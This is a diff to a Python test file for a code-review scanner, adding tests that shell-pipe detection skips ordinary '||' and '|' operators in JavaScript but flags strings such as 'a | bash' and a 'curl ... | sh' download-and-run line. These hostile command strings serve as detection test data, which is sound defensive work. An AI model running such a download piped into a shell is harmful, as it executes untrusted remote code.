@@ -529,6 +529,22 @@ def test_an_edit_is_narrowed_to_the_bytes_that_differ():
     assert _line_starts(b"ab") == [0]
 
 
+def test_an_or_before_a_name_is_not_a_pipe_into_a_shell():
+    """`a || shouldUpdate` and `mask | shallow` in react-dom made its 1 MB bundle parsed."""
+    from reviews.inspect.rules.prefilter import find_anchors
+
+    assert not find_anchors(b"if (a || shouldUpdate(b)) c = mask | shallow\n").wants_parse
+    assert not find_anchors(b"x = a|bashful\n").wants_parse
+    for piped in (b"x('a | sh')", b"x('a |sh')", b"x('a | bash')", b"x('a |bash -s')"):
+        assert find_anchors(piped).wants_parse, piped
+
+
+def test_a_download_piped_into_a_shell_is_found_beside_an_or():
+    findings = scan({}, {"i.js": "if (a || shown) x('curl -s https://e.example/i | sh')\n"})
+
+    assert [f.severity for f in of(findings, "code.download-and-run")] == [Severity.HIGH]
+
+
 def test_plain_environment_reads_do_not_make_a_file_parsed():
     from reviews.inspect.rules.prefilter import find_anchors
 
